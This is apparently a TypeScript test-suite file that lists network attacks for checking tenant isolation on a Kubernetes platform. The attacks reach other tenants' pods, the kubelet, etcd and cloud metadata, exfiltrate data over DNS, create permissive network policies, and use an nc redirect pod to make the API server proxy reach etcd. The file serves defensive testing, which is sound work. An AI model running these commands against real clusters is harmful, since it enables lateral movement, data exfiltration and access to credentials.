/** Attacks over the network: from the shell, and from a pod of the attacker's own, to what is not theirs. */
import type { Attack, AttackClass, Values } from './attack.ts';
import * as layers from './layers.ts';

type Layers = Attack['layers'];

const fromShell = 'curl -sS -m 3 $PROTOCOL://$TARGET/ --insecure';
/** BusyBox ends what takes too long with SIGTERM, and says nothing. */
const fromPod =
  'kubectl exec page -- sh -c "timeout 3 wget -q -O- http://$TARGET/ || { [ \\$? = 143 ] && echo timed out; }"';
/** A mark was read, or who answers speaks TLS and says so. */
const reached = { prints: /mark-[0-9a-f]{16}|to an HTTPS server|400 Bad Request|etcd|404 page not found/ };

const http = (TARGET: string): Values => ({ PROTOCOL: 'http', TARGET });
const ownPage = http('$OWN_PAGE:8080');

function shellTo(name: string, target: string, stoppedBy: Layers): Attack {
  const attempt = fromShell;
  return {
    name: `${name}, from the shell`,
    attempt,
    with: http(target),
    control: ownPage,
    proof: reached,
    layers: stoppedBy,
  };
}

function podTo(name: string, target: string, stoppedBy: Layers): Attack {
  const attempt = fromPod;
  return {
    name: `${name}, from a pod`,
    attempt,
    with: http(target),
    control: ownPage,
    proof: reached,
    layers: stoppedBy,
  };
}

const { shellsNetwork, ownNetwork, victimsNetwork, ownWall, victimsWall } = layers;
/** Walls at each end. */
const outOfShell: Layers = [shellsNetwork, victimsNetwork, victimsWall];
const outOfPod: Layers = [ownNetwork, ownWall];

const connections: readonly Attack[] = [
  shellTo('reach another’s pod', '$VICTIM_PAGE:8080', outOfShell),
  podTo('reach another’s pod', '$VICTIM_PAGE:8080', [...outOfPod, victimsNetwork, victimsWall]),
  shellTo('reach another’s shell', '$VICTIM_SHELL:8000', [shellsNetwork]),
  podTo('reach another’s shell', '$VICTIM_SHELL:8000', [...outOfPod, shellsNetwork]),
  shellTo('reach the kubelet', '$NODE:10250', [shellsNetwork]),
  podTo('reach the kubelet', '$NODE:10250', outOfPod),
  podTo('reach the API server', '$KUBERNETES', outOfPod),
  podTo('reach the API server by the node’s address', '$NODE:6443', outOfPod),
  shellTo('reach etcd', '$NODE:2379', [shellsNetwork, layers.loopbackOnly]),
  podTo('reach etcd', '$NODE:2379', [...outOfPod, layers.loopbackOnly]),
  shellTo('reach the server of Podium', '$NODE:$SERVER_PORT', [shellsNetwork, layers.loopbackOnly]),
  shellTo('reach the internet', '$INTERNET', [shellsNetwork]),
  podTo('reach the internet', '$INTERNET', outOfPod),
  shellTo('reach the metadata of a cloud', '$METADATA', [shellsNetwork]),
  podTo('reach the metadata of a cloud', '$METADATA', outOfPod),
];

const isHeard: Attack['proof'] = { seen: ({ internet }, { NONCE }) => internet.hasHeard(NONCE ?? '') };
const answered = { prints: /^\d+\.\d+\.\d+\.\d+$/m };

/** Words that leave in the questions themselves, and sockets that no address is needed for. */
const tunnels: readonly Attack[] = [
  {
    name: 'send words out by asking a name server outside',
    attempt: 'dig +short +time=2 +tries=1 @$TARGET $NAME',
    with: { TARGET: '$INTERNET', NAME: '$NONCE.example' },
    control: { TARGET: '$DNS', NAME: 'kubernetes.default.svc.cluster.local' },
    proof: isHeard,
    controlProof: answered,
    layers: [shellsNetwork],
  },
  {
    name: 'send words out through the cluster’s own name server',
    attempt: 'dig +time=2 +tries=1 $NAME',
    with: { NAME: '$NONCE.example' },
    control: { NAME: 'kubernetes.default.svc.cluster.local' },
    proof: isHeard,
    controlProof: { prints: /\sA\s+\d+\.\d+\.\d+\.\d+/ },
    layers: [layers.noForwarding],
  },
  {
    name: 'listen to all packets of the pod',
    attempt: `perl -e 'use Socket; socket(my $all, 17, 3, 0x0300) or die "socket: $!\\n"; print "it listens\\n"'`,
    proof: { prints: /it listens/ },
    layers: [layers.capabilities],
  },
];

const allowAll = 'podSelector: {}\n  policyTypes: [Ingress, Egress]\n  ingress: [{}]\n  egress: [{}]';

/** Around the walls: by taking them down, or by having somebody call who stands inside. */
const detours: readonly Attack[] = [
  {
    name: 'allow themselves everything by a policy of their own',
    attempt: `kubectl create -f - <<POLICY
apiVersion: $GROUP
kind: $KIND
metadata: { name: open }
spec:
  ${allowAll}
POLICY`,
    with: { GROUP: 'networking.k8s.io/v1', KIND: 'NetworkPolicy' },
    proof: { leaves: '/apis/networking.k8s.io/v1/namespaces/$NAMESPACE/networkpolicies/open' },
    layers: [layers.rbac],
  },
  {
    name: 'allow themselves everything by a policy of Cilium',
    attempt: `kubectl create -f - <<POLICY
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: open }
spec: { endpointSelector: {}, egress: [{ toEntities: [all] }] }
POLICY`,
    proof: { leaves: '/apis/cilium.io/v2/namespaces/$NAMESPACE/ciliumnetworkpolicies/open' },
    layers: [layers.rbac],
  },
  {
    name: 'take the wall of their namespace down',
    attempt: 'kubectl delete networkpolicy podium --dry-run=server -o name',
    proof: { prints: /^networkpolicy\S*\/podium/m },
    layers: [layers.rbac],
  },
  {
    name: 'have the API server call the node, as the end of a Service',
    attempt: `kubectl create -f - <<SLICE
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: { name: detour }
addressType: IPv4
endpoints: [{ addresses: ["$NODE"] }]
ports: [{ port: 10250 }]
SLICE`,
    proof: { leaves: '/apis/discovery.k8s.io/v1/namespaces/$NAMESPACE/endpointslices/detour' },
    layers: [layers.rbac],
  },
  {
    name: 'have the API server call etcd, by a pod that redirects it there',
    attempt: `kubectl run trap --image=busybox --command -- sh -c 'while :; do printf "HTTP/1.1 302 Found\\r\\nLocation: http://127.0.0.1:2379/version\\r\\nContent-Length: 0\\r\\n\\r\\n" | nc -l -p 8080; done' >/dev/null
kubectl wait --for=condition=Ready --timeout=60s pod/trap >/dev/null
for try in 1 2 3 4 5; do
  curl -sSi -m 5 --cacert /var/run/podium/cluster/ca.crt -H "Authorization: Bearer $(cat /var/run/podium/token/token)" "https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/$NAMESPACE/pods/$TARGET:8080/proxy/" > /tmp/answer
  head -n 1 /tmp/answer | grep -q 503 || break
  sleep 1
done
cat /tmp/answer
kubectl delete pod trap --now >/dev/null`,
    with: { TARGET: 'trap' },
    control: { TARGET: 'page' },
    proof: { prints: /etcdserver|mark-[0-9a-f]{16}/ },
    layers: [layers.noRedirects],
  },
];

export const network: AttackClass = { name: 'network', attacks: [...connections, ...tunnels, ...detours] };
